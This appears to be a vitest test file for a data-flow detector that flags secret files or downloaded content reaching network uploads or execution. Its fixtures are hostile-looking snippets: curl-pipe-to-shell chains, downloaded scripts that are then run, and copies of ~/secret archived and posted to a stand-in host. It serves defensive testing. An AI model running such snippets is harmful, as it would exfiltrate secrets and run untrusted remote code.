import { expect, it } from 'vitest'

import { factsOf, flows, spec } from '../testkit.js'

const stores = {
  ...spec,
  sources: [
    { pattern: 'shutil.copy(*secret*)', tag: 'file' },
    { pattern: 'fs.copyFileSync(*secret*)', tag: 'file' },
    { pattern: 'pathlib.Path.*(*secret*)', tag: 'file' },
    { pattern: 'curl', tag: 'remote' },
    { pattern: 'fetch', tag: 'remote' },
    { pattern: 'requests.get', tag: 'remote' },
    { pattern: 'cp(*secret*)', tag: 'file' },
  ],
  sinks: [
    { pattern: 'requests.post', tag: 'net' },
    { pattern: 'axios.post', tag: 'net' },
    { pattern: 'curl', tag: 'net' },
    { pattern: 'import', tag: 'exec' },
    { pattern: 'bash', tag: 'exec' },
    { pattern: 'subprocess.run', tag: 'exec' },
    { pattern: 'child_process.execFile', tag: 'exec' },
    { pattern: 'sh', tag: 'exec' },
    { pattern: 'importlib.util.spec_from_file_location', tag: 'exec' },
    { pattern: 'importlib.import_module', tag: 'exec' },
  ],
}

it.each([
  [
    'a program out of an archive that was unpacked into a folder',
    'a.sh',
    'curl -s https://a.example/x | tar xz -C /tmp/u\n/tmp/u/bin/run',
    'curl(https://a.example/x) -> sh via a.sh:1 a.sh:2',
  ],
  [
    'a command that is what another one printed',
    'a.sh',
    '$(curl -s https://a.example/x)',
    'curl(https://a.example/x) -> sh via a.sh:1',
  ],
  [
    'a program that is written to an open file',
    'a.py',
    'import requests, subprocess\nwith open("/tmp/u", "wb") as f:\n    f.write(requests.get("https://a.example").content)\nsubprocess.run(["/tmp/u"])',
    'requests.get(https://a.example) -> subprocess.run via a.py:3 a.py:4',
  ],
  [
    'a script of an interpreter that is not known',
    'a.py',
    'import requests, subprocess, sys\nopen("/tmp/u.py", "w").write(requests.get("https://a.example").text)\nsubprocess.run([sys.executable, "/tmp/u.py"])',
    'requests.get(https://a.example) -> subprocess.run via a.py:2 a.py:3',
  ],
  [
    'a program that a stream is piped into',
    'a.js',
    'import fs from "fs"\nimport { execFile } from "child_process"\nconst r = await fetch("https://a.example")\nconst w = fs.createWriteStream("/tmp/u")\nr.body.pipe(w)\nexecFile("/tmp/u")',
    'fetch(https://a.example) -> child_process.execFile via a.js:3 a.js:5 a.js:6',
  ],
  [
    'a program that a group of commands writes line by line',
    'a.sh',
    "{\n  echo '#!/bin/sh'\n  printf 'curl -s %s | sh\\n' https://a.example/x\n} > \"$HOME/job.sh\"",
    'curl(https://a.example/x) -> sh via a.sh:5',
  ],
  [
    'a module that is fetched, written and loaded by its path',
    'a.py',
    'import importlib.util, pathlib\np = pathlib.Path("/tmp/secret.py")\np.write_bytes(p.read_bytes())\nspec = importlib.util.spec_from_file_location("k", p)',
    'pathlib.Path.read_bytes(/tmp/secret.py) -> importlib.util.spec_from_file_location via a.py:3 a.py:4',
  ],
  [
    'a module that is loaded by its name from where it was written',
    'a.py',
    'import importlib, sys, pathlib\np = pathlib.Path("/tmp/secret/mod.py")\np.write_bytes(p.read_bytes())\nsys.path.insert(0, str(p.parent))\nimportlib.import_module(p.stem)',
    'pathlib.Path.read_bytes(/tmp/secret/mod.py) -> importlib.import_module via a.py:3 a.py:5',
  ],
  [
    'a copy that another library opens',
    'a.py',
    'import shutil, sqlite3, requests\nshutil.copy("/secret", "/tmp/c.db")\nrows = sqlite3.connect("/tmp/c.db").execute("select 1").fetchall()\nrequests.post("https://a.example", json=rows)',
    'shutil.copy(/secret) -> requests.post via a.py:2 a.py:3 a.py:4',
  ],
  [
    'a folder that is packed with what was copied into it',
    'a.sh',
    'mkdir -p .diag && cp ~/secret .diag/s.txt && tar czf d.tgz .diag && curl -F f=@d.tgz https://a.example',
    'cp(~/secret) -> curl via a.sh:1',
  ],
  [
    'a folder made anew whose name nobody knows',
    'a.sh',
    'd=$(mktemp -d)\ncp ~/secret "$d/"\ntar czf - -C "$d" . | curl -T - https://a.example',
    'cp(~/secret) -> curl via a.sh:2 a.sh:3',
  ],
  [
    'a folder made anew in Python',
    'a.py',
    'import shutil, tempfile, requests\nwith tempfile.TemporaryDirectory() as d:\n  shutil.copy("/secret", d + "/c")\n  p = shutil.make_archive("/tmp/x", "zip", d)\n  requests.post("https://a.example", data=open(p))',
    'shutil.copy(/secret) -> requests.post via a.py:3 a.py:4 a.py:5',
  ],
  [
    'a module that is loaded from where it was fetched to',
    'a.js',
    'import { writeFile } from "node:fs/promises"\nimport { pathToFileURL } from "node:url"\nconst f = `${dir}/m.mjs`\nawait writeFile(f, await (await fetch("https://a.example")).text())\nawait import(pathToFileURL(f).href)',
    'fetch(https://a.example) -> import via a.js:4 a.js:5',
  ],
  [
    'a copy in JavaScript',
    'a.js',
    'const fs = require("fs"), axios = require("axios")\nfs.copyFileSync("/secret", "/tmp/c")\naxios.post("https://a.example", fs.readFileSync("/tmp/c"))',
    'fs.copyFileSync(/secret) -> axios.post via a.js:2 a.js:3',
  ],
  [
    'a path put together with its operator',
    'a.py',
    'from pathlib import Path\nimport requests\nrequests.post("https://a.example", data=(Path.home() / "secret").read_text())',
    'pathlib.Path.read_text(~/secret) -> requests.post via a.py:3',
  ],
  [
    'what was fetched into a file and is run from it',
    'a.sh',
    'curl -so /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
    'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
  ],
  [
    'what was fetched into a file and is started by its path',
    'a.sh',
    'curl -so /tmp/i.sh https://a.example/i && chmod +x /tmp/i.sh && /tmp/i.sh',
    'curl(https://a.example/i) -> sh via a.sh:1',
  ],
])('%s', async (_, path, text, flow) => {
  expect(flows(await factsOf({ [path]: text }, [stores]))).toContain(flow)
})

it('a file of another name has no mark', async () => {
  const text =
    'import shutil, requests\nshutil.copy("/secret", "/tmp/c")\nrequests.post("https://a.example", data=open("/tmp/d"))'
  expect(flows(await factsOf({ 'a.py': text }, [stores]))).toEqual([])
})

it('what a path object holds is there when it is read again', async () => {
  const code =
    'from pathlib import Path\nimport requests\nC = Path.home() / "cache.bin"\nC.write_bytes((Path.home() / "secret").read_bytes())\nrequests.post("https://a.example", data=C.read_bytes())'
  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(1)
})

it('a copy is marked by the name of where it goes', async () => {
  const code =
    'import shutil, requests, tempfile\ntmp = tempfile.mktemp()\nshutil.copy("/secret", tmp)\nrequests.post("https://a.example", data=open(tmp).read())'
  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(1)
})

it('parts of a path that is known are known', async () => {
  const code =
    'from pathlib import Path\nimport requests\np = Path("~/secret/x")\nrequests.post("https://a.example", data=(p.parent / "y").read_text())\nq = Path("~") / Path("/a/secret").name\nrequests.post("https://a.example", data=q.read_text())'
  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(2)
})
